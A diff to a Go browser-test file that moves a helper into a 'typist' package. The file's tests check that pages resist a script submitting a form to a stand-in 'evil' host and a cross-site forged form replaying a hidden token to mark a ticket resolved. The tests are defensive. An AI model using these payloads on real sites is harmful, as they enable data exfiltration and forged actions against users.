@@ -15,6 +15,7 @@ import (
 	"github.com/chromedp/chromedp"
 
 	"postern/internal/peer"
+	"postern/internal/typist"
 )
 
 // asked is a server that remembers what it was asked.
@@ -131,7 +132,7 @@ func TestT81PagesInHostileHands(t *testing.T) {
 	})
 
 	visit(t, ctx, address)
-	say(t, ctx, chromedp.Click("button"), "Ticket TT42")
+	typist.Say(ctx, t, chromedp.Click("button"), "Ticket TT42")
 	for name, test := range map[string]struct{ script, directive string }{
 		"sends no form elsewhere": {`const f = document.createElement("form"); f.action = evil + "/form"; f.method = "post";
 			document.body.append(f); f.submit()`, "form-action"},
@@ -180,21 +181,21 @@ func TestT80ABrowserSendsAFormFromElsewhere(t *testing.T) {
 	sibling := askedServer(t, "127.0.0.1", &other) // the same site on another port, so the cookie goes along
 	ctx := newTab(t)
 	visit(t, ctx, address)
-	say(t, ctx, chromedp.Click("button"), "Ticket TT42")
+	typist.Say(ctx, t, chromedp.Click("button"), "Ticket TT42")
 	flow := evaluate[string](t, ctx, "location.pathname")
-	say(t, ctx, chromedp.Click(`a[href$="/resolve"]`), "Mark as resolved")
+	typist.Say(ctx, t, chromedp.Click(`a[href$="/resolve"]`), "Mark as resolved")
 	seen := evaluate[string](t, ctx, `document.querySelector("input[name='~seen']").value`)
 	for name, from := range map[string]*asked{"another site": evil, "a sibling": sibling} {
 		t.Run(name, func(t *testing.T) {
 			other.show(`<form method=post action="` + h.url + flow + `/resolve"><input name="~seen" value="` + seen + `">
 				<button>A prize</button></form>`)
 			visit(t, ctx, from.url)
-			say(t, ctx, chromedp.Click("button"), "Please use the button on our own page")
+			typist.Say(ctx, t, chromedp.Click("button"), "Please use the button on our own page")
 		})
 	}
 	if len(h.events()) != 0 {
 		t.Error("a form from elsewhere had an effect")
 	}
 	visit(t, ctx, h.url+flow+"/resolve")
-	say(t, ctx, chromedp.Click("button"), "Saved")
+	typist.Say(ctx, t, chromedp.Click("button"), "Saved")
 }
